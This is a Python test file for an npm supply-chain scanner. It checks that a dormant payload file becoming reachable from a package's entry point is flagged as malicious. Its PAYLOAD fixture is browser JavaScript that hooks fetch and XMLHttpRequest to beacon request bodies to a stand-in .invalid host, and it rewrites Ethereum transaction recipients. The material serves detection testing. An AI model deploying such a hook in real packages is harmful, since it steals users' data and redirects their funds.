"""A dormant file becomes the entry (analysis/diff.py reachable_entries): a payload that sat
unused in the previous release, or code moved from such a file into an entry file, is judged as
new entry code. Every fixture is inert (hosts under .invalid, IPs from 192.0.2.0/24)."""

from __future__ import annotations

import json

from chainwatch.analysis.diff import reachable_entries
from chainwatch.model import Level, PackageRef, Verdict
from chainwatch.scan import Loaded, Scanner, scan_snippet_files

SCANNER = Scanner(None, workers=1)

PAYLOAD = """module.exports = function () { return 1; };
;(function () {
  if (typeof window === "undefined") return;
  var f = window.fetch;
  window.fetch = function () {
    return f.apply(this, arguments).then(function (r) { return r; });
  };
  var send = window.XMLHttpRequest.prototype.send;
  window.XMLHttpRequest.prototype.send = function (body) {
    try { navigator.sendBeacon("https://collect.example.invalid/c", body); } catch (e) {}
    return send.apply(this, arguments);
  };
  if (window.ethereum) {
    var req = window.ethereum.request;
    window.ethereum.request = function (a) {
      if (a && a.method === "eth_sendTransaction")
        a.params[0].to = "0x00000000000000000000000000000000000000aa";
      return req.apply(this, arguments);
    };
  }
})();
"""
PLAIN = "module.exports = function () { return 1; };\n"


def files(version: str, main: str = "index.js", index: str = PLAIN,
          compat: str | None = PAYLOAD) -> dict[str, str | bytes]:
    out: dict[str, str | bytes] = {
        "package.json": json.dumps({"name": "mv-util", "version": version, "main": main}),
        "index.js": index}
    if compat is not None:
        out["lib/compat.js"] = compat
    return out


def pair(before: dict[str, str | bytes], after: dict[str, str | bytes]) -> Verdict:
    return SCANNER.analyze(Loaded(PackageRef("mv-util", "1.0.1"), scan_snippet_files(after)),
                           Loaded(PackageRef("mv-util", "1.0.0"), scan_snippet_files(before)))


def rules(v: Verdict) -> set[str]:
    return {f.rule for f in v.findings}


def test_main_moved_to_an_unchanged_dormant_payload_is_new_entry_code() -> None:
    v = pair(files("1.0.0"), files("1.0.1", main="lib/compat.js"))
    assert "CW-DIFF-ENTRY-PAYLOAD" in rules(v), v.explanation
    assert v.level is Level.MALICIOUS


def test_an_entry_that_now_requires_the_dormant_file_makes_it_entry_code() -> None:
    v = pair(files("1.0.0"), files("1.0.1", index='require("./lib/compat");\n' + PLAIN))
    assert "CW-DIFF-ENTRY-PAYLOAD" in rules(v), v.explanation
    assert v.level is Level.MALICIOUS


def test_payload_moved_from_a_dormant_file_into_the_entry_file_is_new() -> None:
    v = pair(files("1.0.0"), files("1.0.1", index=PAYLOAD, compat=None))
    assert "CW-DIFF-ENTRY-PAYLOAD" in rules(v), v.explanation
    assert v.level is Level.MALICIOUS
    assert not any(f.preexisting for f in v.findings if f.file == "index.js"
                   and f.rule.startswith("CW-BROWSER"))


def test_entry_code_that_already_ran_the_payload_is_preexisting() -> None:
    before = files("1.0.0", index='require("./lib/compat");\n' + PLAIN)
    after = files("1.0.1", index='require("./lib/compat");\n' + PLAIN + "// 1.0.1\n")
    assert "CW-DIFF-ENTRY-PAYLOAD" not in rules(pair(before, after))


def test_main_moved_to_a_benign_file_stays_benign() -> None:
    before = files("1.0.0", compat=PLAIN)
    v = pair(before, files("1.0.1", main="lib/compat.js", compat=PLAIN))
    assert v.level is Level.BENIGN, v.explanation


def test_reachable_entries_follows_relative_requires_and_imports() -> None:
    pf = scan_snippet_files({
        "package.json": json.dumps({"name": "x", "version": "1.0.0", "main": "index.js"}),
        "index.js": 'require("./a"); import("./lib/b.mjs");\n',
        "a.js": 'const c = require("./lib");\n', "lib/index.js": 'export * from "../d.js";\n',
        "lib/b.mjs": "", "d.js": "", "dormant.js": 'require("./index");\n'})
    assert reachable_entries(pf.manifest, pf.files) == {
        "index.js", "a.js", "lib/index.js", "lib/b.mjs", "d.js"}
